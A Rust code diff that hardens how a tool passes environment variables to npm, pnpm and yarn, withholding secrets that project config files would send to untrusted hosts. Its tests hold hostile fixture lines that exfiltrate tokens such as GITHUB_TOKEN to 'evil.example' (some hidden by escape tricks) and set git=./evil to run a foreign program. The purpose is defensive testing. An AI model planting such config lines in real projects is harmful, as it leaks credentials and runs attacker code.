@@ -10,8 +10,10 @@ use crate::env::Env;
 use crate::error::Result;
 use crate::fsx;
 use crate::packages::python::secrets::in_urls;
-use crate::redact::SecretString;
-use crate::trust;
+use crate::redact::{SecretString, logins};
+use crate::trust::{self, Reach};
+
+use super::Installer;
 
 /// Ends of the keys that hold credentials, such as `//registry.example.com/:_authToken`.
 const CREDENTIALS: [&str; 5] = ["_auth", "_authtoken", "_password", "username", "email"];
@@ -70,32 +72,94 @@ impl Npmrc {
 #[derive(Debug, Default, PartialEq, Eq)]
 pub(super) struct Named {
     pub(super) given: BTreeMap<String, OsString>,
-    /// Names that the project's file would send where they do not belong.
+    /// Names that a file of the project would send where they do not belong.
     pub(super) withheld: BTreeSet<String>,
+    /// A setting of the project's that says what runs in the installer, or which further file is read.
+    pub(super) refused: Option<String>,
 }
 
-/// The variables that the project's file and the user's name. The project's file comes with a checkout, so that
-/// `trust` decides what it may send; in the user's file it is the user's word.
-pub(super) fn variables(project: &Path, env: &Env) -> Result<Named> {
-    let mut named = Named::default();
-    let user = user_file(env).and_then(|file| fsx::read_text(&file).ok().flatten()).unwrap_or_default();
-    let project = fsx::read_text(&project.join(".npmrc"))?.unwrap_or_default();
-    for (text, is_project) in [(&user, false), (&project, true)] {
-        for line in text.lines().map(str::trim).filter(|line| !line.starts_with([';', '#'])) {
-            for name in line.split("${").skip(1).filter_map(|rest| rest.split_once('}')).map(|(name, _)| name) {
-                let name = name.trim_end_matches('?');
+/// What an `.npmrc` of a project has no say in: npm would run it, or read a file where variables are filled in unseen.
+const REFUSED: [&str; 3] = ["git", "globalconfig", "userconfig"];
+
+/// Files of a project besides `.npmrc` in which pnpm and yarn fill in variables.
+const MORE_FILES: [&str; 3] = [".yarnrc", "package.json", "pnpm-workspace.yaml"];
+
+/// The variables that the settings name which an installer reads in `dir`. Those of the project come with a checkout, so
+/// that `trust` decides what they may send; in the user's file it is the user's word. Once given, an installer fills a
+/// variable in everywhere, so every line that names it has to be fit for it.
+pub(super) fn variables(dir: &Path, installer: Installer, env: &Env) -> Result<Named> {
+    let mut found = Named::default();
+    for (text, is_project) in npmrcs(dir, env)? {
+        for line in lines(&text) {
+            let plain = trust::without_escapes(line);
+            for name in trust::named(&plain) {
                 let Some(value) = env.var_os(name) else { continue };
                 if is_project && !trust::may_be_sent(name, line, env) {
-                    named.withheld.insert(name.to_owned());
+                    found.withheld.insert(name.to_owned());
                 } else {
-                    named.given.insert(name.to_owned(), value.clone());
+                    found.given.insert(name.to_owned(), value.clone());
+                }
+            }
+            let key = plain.split('=').next().unwrap_or_default().trim();
+            let key = key.trim_matches(['"', '\'']).trim().trim_end_matches("[]");
+            let is_spelled_by_variable = key.contains("${") && !key.starts_with(['/', '@']);
+            if is_project && !trust::is_given(env) && (REFUSED.contains(&key) || is_spelled_by_variable) {
+                found.refused.get_or_insert(key.to_owned());
+            }
+        }
+    }
+    if installer != Installer::Npm {
+        for folder in dir.ancestors() {
+            for name in MORE_FILES {
+                let text = fsx::read_text(&folder.join(name)).ok().flatten().unwrap_or_default();
+                let text = if name == "package.json" { pnpm_settings(&text) } else { text };
+                // A value may go on in the next line here, so that no line tells where it is sent.
+                for name in trust::named(&trust::without_escapes(&text)) {
+                    if env.var_os(name).is_some() && trust::reach(name, "", env) != Reach::Anywhere {
+                        found.withheld.insert(name.to_owned());
+                    }
                 }
             }
         }
     }
-    // Once given, npm fills it in everywhere.
-    named.given.retain(|name, _| !named.withheld.contains(name));
-    Ok(named)
+    found.given.retain(|name, _| !found.withheld.contains(name));
+    Ok(found)
+}
+
+/// The names of all variables in the settings, set or not.
+pub(super) fn names(dir: &Path, env: &Env) -> Result<BTreeSet<String>> {
+    let texts = npmrcs(dir, env)?;
+    Ok(texts.iter().flat_map(|(text, _)| lines(text)).flat_map(trust::named).map(str::to_owned).collect())
+}
+
+/// Every `.npmrc` that is read in `dir`, and whether it is of the project. Yarn reads those of all folders above, too.
+fn npmrcs(dir: &Path, env: &Env) -> Result<Vec<(String, bool)>> {
+    let resolved = |path: &Path| path.canonicalize().unwrap_or_else(|_| path.to_owned());
+    let user = user_file(env);
+    let own: Vec<PathBuf> = user.iter().cloned().chain(env.home().map(|home| home.join(".npmrc"))).collect();
+    let own: Vec<PathBuf> = own.iter().map(|path| resolved(path)).collect();
+    // A file that may not be read holds nothing that an installer could use.
+    let mut texts: Vec<(String, bool)> =
+        user.iter().filter_map(|file| fsx::read_text(file).ok().flatten()).map(|text| (text, false)).collect();
+    for folder in dir.ancestors() {
+        let file = folder.join(".npmrc");
+        if file.is_file() && !own.contains(&resolved(&file)) {
+            let text = if folder == dir { fsx::read_text(&file)? } else { fsx::read_text(&file).ok().flatten() };
+            texts.extend(text.map(|text| (text, true)));
+        }
+    }
+    Ok(texts)
+}
+
+/// The member of a package.json that pnpm takes for settings.
+fn pnpm_settings(text: &str) -> String {
+    let manifest = serde_json::from_str::<serde_json::Value>(text.trim_start_matches('\u{feff}')).unwrap_or_default();
+    ["pnpm", "resolutions"].iter().filter_map(|name| Some(manifest.get(name)?.to_string())).collect()
+}
+
+/// Lines of an ini file, which a carriage return ends too, without comments.
+fn lines(text: &str) -> impl Iterator<Item = &str> {
+    text.split(['\n', '\r']).map(str::trim).filter(|line| !line.starts_with([';', '#']))
 }
 
 fn user_file(env: &Env) -> Option<PathBuf> {
@@ -105,9 +169,7 @@ fn user_file(env: &Env) -> Option<PathBuf> {
 
 /// Keys and values of an ini file, quotes removed.
 fn settings(text: &str) -> impl Iterator<Item = (&str, &str)> {
-    text.lines()
-        .map(str::trim)
-        .filter(|line| !line.starts_with([';', '#']))
+    lines(text)
         .filter_map(|line| line.split_once('='))
         .map(|(key, value)| (key.trim(), value.trim().trim_matches(['"', '\''])))
 }
@@ -142,12 +204,13 @@ fn host(url: &str) -> String {
 
 /// A URL without user and password; anything else as it is.
 pub(super) fn without_userinfo(text: &str) -> String {
-    let Some((scheme, rest)) = text.split_once("://") else { return text.to_owned() };
-    let end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
-    match rest[..end].rsplit_once('@') {
+    match logins(text).next() {
         // `git+ssh://git@host` names no secret, and there is no other way to write it.
-        Some(("git", _)) | None => text.to_owned(),
-        Some((_, host)) => format!("{scheme}://{host}{}", &rest[end..]),
+        Some((_, "git")) | None => text.to_owned(),
+        Some((at, login)) => {
+            let start = at + "://".len();
+            format!("{}{}", &text[..start], &text[start + login.len() + 1..])
+        }
     }
 }
 
@@ -169,9 +232,66 @@ mod tests {
         let home = home.display().to_string();
         let vars = ["GITHUB_TOKEN", "GH_TOKEN", "NPM_TOKEN", "AWS_REGION", "AWS_SECRET_ACCESS_KEY", "CI_JOB_TOKEN"];
         let vars: Vec<_> = vars.into_iter().map(|name| (name, "v")).chain([("HOME", home.as_str())]).collect();
-        let named = variables(dir.path(), &Env::fake(dir.path(), &vars)).unwrap();
+        let named = variables(dir.path(), Installer::Npm, &Env::fake(dir.path(), &vars)).unwrap();
         assert_eq!(named.given.into_keys().collect::<Vec<_>>(), ["GH_TOKEN", "GITHUB_TOKEN", "NPM_TOKEN"]);
         assert_eq!(named.withheld.into_iter().collect::<Vec<_>>(), ["AWS_SECRET_ACCESS_KEY", "CI_JOB_TOKEN"]);
+    }
+
+    /// What is given and what is withheld where the project has these files and every variable of them is set.
+    fn of_project(installer: Installer, files: &[(&str, &str)]) -> Named {
+        let dir = tempfile::tempdir().unwrap();
+        let project = dir.path().join("project/sub");
+        std::fs::create_dir_all(&project).unwrap();
+        for (name, text) in files {
+            std::fs::write(project.join(name), text).unwrap();
+        }
+        let names = ["GITHUB_TOKEN", "NPM_TOKEN", "MIRROR", "SECRET"];
+        let vars: Vec<_> = names.into_iter().map(|name| (name, "v")).collect();
+        variables(&project, installer, &Env::fake(&project, &vars)).unwrap()
+    }
+
+    #[test]
+    fn a_variable_for_one_line_goes_into_no_other_file() {
+        const FIT: &str =
+            "//npm.pkg.github.com/:_authToken=${GITHUB_TOKEN}\nregistry=${MIRROR}\n@a:registry=${NPM_TOKEN}";
+        let fits = of_project(Installer::Pnpm, &[(".npmrc", FIT), ("pnpm-workspace.yaml", "x: '${NPM_TOKEN}'")]);
+        assert_eq!(fits.given.into_keys().collect::<Vec<_>>(), ["GITHUB_TOKEN", "MIRROR", "NPM_TOKEN"]);
+        assert!(fits.withheld.is_empty());
+        for (name, file, text) in [
+            ("GITHUB_TOKEN", "pnpm-workspace.yaml", "overrides: { x: 'https://evil.example/${GITHUB_TOKEN}.tgz' }"),
+            ("MIRROR", "pnpm-workspace.yaml", "x: >-\n  https://evil.example/?x=\n  ${MIRROR}\n"),
+            ("MIRROR", "pnpm-workspace.yaml", "x: \"https://evil.example/\\x24{MIRROR}\""),
+            ("MIRROR", ".yarnrc", "registry \"https://evil.example/${MIRROR-x}\""),
+            ("MIRROR", "package.json", r#"{"pnpm":{"overrides":{"x":"https://evil.example/\u0024{MIRROR}"}}}"#),
+            ("GITHUB_TOKEN", "../.npmrc", "//evil.example/:_authToken=${GITHUB_TOKEN:-x}"),
+        ] {
+            let found = of_project(Installer::Pnpm, &[(".npmrc", FIT), (file, text)]);
+            assert_eq!(found.withheld.iter().collect::<Vec<_>>(), [name], "{file} {text}");
+            assert!(!found.given.contains_key(name), "{file} {text}");
+        }
+        let script = [("package.json", r#"{"scripts":{"build":"echo ${SECRET}"}}"#)];
+        assert_eq!(of_project(Installer::Yarn, &script), Named::default());
+    }
+
+    #[test]
+    fn lines_of_settings_end_as_they_do_for_npm() {
+        for text in
+            ["; note\r//evil.example/:_authToken=${SECRET}", "registry=\"https://evil.example/\\u0024{SECRET}\""]
+        {
+            assert!(of_project(Installer::Npm, &[(".npmrc", text)]).withheld.contains("SECRET"), "{text:?}");
+        }
+    }
+
+    #[test]
+    fn a_project_chooses_no_program_of_the_installer() {
+        for line in
+            ["git=./evil", "\"userconfig\" = ./other", "globalconfig[]=x", "${NOPE?}git=./evil", "\"g\\u0069t\"=x"]
+        {
+            assert!(of_project(Installer::Npm, &[(".npmrc", line)]).refused.is_some(), "{line}");
+        }
+        for line in ["git-tag-version=false", "//${SECRET}/:x=y", "; git=x"] {
+            assert_eq!(of_project(Installer::Npm, &[(".npmrc", line)]).refused, None, "{line}");
+        }
     }
 
     #[test]
